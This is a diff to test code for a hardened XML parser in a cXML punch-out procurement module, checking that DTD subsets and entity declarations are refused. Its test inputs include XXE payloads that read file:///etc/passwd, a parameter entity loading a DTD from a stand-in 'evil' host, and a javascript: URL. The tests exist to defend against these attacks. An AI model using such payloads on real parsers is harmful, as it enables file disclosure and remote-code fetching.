@@ -9,6 +9,7 @@ import {
   punchOutOrderMessage,
   punchOutSetupResponse,
   readPunchOutSetupRequest,
+  MAX_BUYER_COOKIE,
   type PunchOutLine,
 } from '../src/domains/punchout/cxml.ts';
 import { setupRequestXml } from './punchoutFixtures.ts';
@@ -33,10 +34,48 @@ describe('the safe XML parser', () => {
     expect(root.children).toContain('<raw>');
   });
 
-  it('refuses a DOCTYPE, any declaration and any entity it was not told about (XXE) with MROPU0002', () => {
+  it('reads a DOCTYPE that only names an external DTD, by SYSTEM or PUBLIC id, in any legal spelling', () => {
+    const dtd = 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd';
+    for (const doctype of [
+      `<!DOCTYPE cXML SYSTEM "${dtd}">`,
+      `<!DOCTYPE cXML SYSTEM '${dtd}'>`,
+      `<!DOCTYPE cXML\r\n  SYSTEM\t"${dtd}"\r\n>`,
+      `<!DOCTYPE cXML PUBLIC "-//cXML.org//DTD cXML 1.2.014//EN" "${dtd}">`,
+      `<!DOCTYPE cXML PUBLIC '-//cXML//DTD cXML//EN'\n '${dtd}' >`,
+      '<!DOCTYPE cXML>',
+      // A DTD that would be harmful if fetched is not fetched either: only its name is read.
+      '<!DOCTYPE cXML SYSTEM "file:///etc/passwd">',
+    ]) {
+      const root = parseXml(
+        `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<!-- c -->\r\n${doctype}\r\n<cXML a="1"><b>x</b></cXML>`,
+      );
+      expect([doctype, root.name, textOf(at(root, 'b'))]).toEqual([doctype, 'cXML', 'x']);
+    }
+    // Line ends read as LF; attribute white space normalised (XML 1.0 2.11 and 3.3.3).
+    const root = parseXml('<a v="1\r\n2\t3&#10;"><b>x\r\ny\rz</b></a>');
+    expect(root.attrs.v).toBe('1 2 3\n');
+    expect(textOf(at(root, 'b'))).toBe('x\ny\nz');
+  });
+
+  it('refuses an internal DTD subset, any declaration and any entity it was not told about (XXE) with MROPU0002', () => {
     const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
     expect(code(() => parseXml(xxe))).toBe('MROPU0002');
     expect(code(() => parseXml('<!doctype x><x/>'))).toBe('MROPU0002');
+    const dtd = 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd';
+    for (const bad of [
+      `<!DOCTYPE cXML SYSTEM "${dtd}" [<!ENTITY x "y">]><cXML>&x;</cXML>`,
+      `<!DOCTYPE cXML SYSTEM "${dtd}"[]><cXML/>`,
+      `<!DOCTYPE cXML PUBLIC "-//x//EN" "${dtd}" [ <!ENTITY % p SYSTEM "http://evil/x.dtd"> %p; ]><cXML/>`,
+      '<!DOCTYPE cXML [<!ELEMENT cXML ANY>]><cXML/>',
+      '<!ENTITY x "y"><cXML/>',
+      '<cXML><!ENTITY x "y"></cXML>',
+      '<cXML><!ATTLIST cXML a CDATA "b"></cXML>',
+    ]) {
+      expect(
+        code(() => parseXml(bad)),
+        bad,
+      ).toBe('MROPU0002');
+    }
     expect(code(() => parseXml('<x>&xxe;</x>'))).toBe('MROPU0002');
     expect(code(() => parseXml('<x a="&ext;"/>'))).toBe('MROPU0002');
     // Billion laughs needs declarations: refused before anything is expanded.
@@ -59,6 +98,13 @@ describe('the safe XML parser', () => {
       '<a>&#0;</a>',
       '<a><!-- open</a>',
       '<a',
+      // A DOCTYPE after the root, twice, without a name or with a broken id.
+      '<a/><!DOCTYPE a>',
+      '<!DOCTYPE a><!DOCTYPE a><a/>',
+      '<!DOCTYPE><a/>',
+      '<!DOCTYPE a SYSTEM "x><a/>',
+      '<!DOCTYPE a PUBLIC "{bad}" "x"><a/>',
+      '<!DOCTYPE a SYSTEM "x" junk><a/>',
     ]) {
       expect(
         code(() => parseXml(bad)),
@@ -93,7 +139,11 @@ describe('cXML punch-out documents', () => {
     };
     expect(refusal('<Order/>')).toBe('MROPU0004 cXML');
     expect(refusal(setupRequestXml({ formPost: 'javascript:alert(1)' }))).toBe('MROPU0004 BrowserFormPost/URL');
-    expect(refusal(setupRequestXml({ cookie: '' }))).toBe('MROPU0004 BuyerCookie');
+    expect(refusal(setupRequestXml().replace(/<BuyerCookie>.*<\/BuyerCookie>/, ''))).toBe('MROPU0004 BuyerCookie');
+    expect(refusal(setupRequestXml({ cookie: 'c'.repeat(MAX_BUYER_COOKIE + 1) }))).toBe('MROPU0004 BuyerCookie');
+    expect(refusal(setupRequestXml().replace('deploymentMode="test"', 'deploymentMode="staging"'))).toBe(
+      'MROPU0004 Request/@deploymentMode',
+    );
     expect(refusal(setupRequestXml({ operation: 'delete' }))).toBe('MROPU0004 operation');
     expect(refusal(setupRequestXml({}).replaceAll('PunchOutSetupRequest', 'OrderRequest'))).toBe(
       'MROPU0004 PunchOutSetupRequest',
@@ -102,8 +152,8 @@ describe('cXML punch-out documents', () => {
 
   it('writes a PunchOutSetupResponse and a PunchOutOrderMessage that read back, escaped', () => {
     const response = punchOutSetupResponse({ payloadId: 'p@x', timestamp: 't', startPage: 'https://a/b?c=1&d=2' });
-    // Our own documents declare cXML's DTD, as cXML requires; our parser never reads one back, so compare the body.
-    const body = (xml: string) => parseXml(xml.replace(/<!DOCTYPE[^>]*>/, ''));
+    // Our own documents declare cXML's DTD, as cXML requires; they are read back exactly as written.
+    const body = (xml: string) => parseXml(xml);
     expect(textOf(at(body(response), 'Response', 'PunchOutSetupResponse', 'StartPage', 'URL'))).toBe(
       'https://a/b?c=1&d=2',
     );
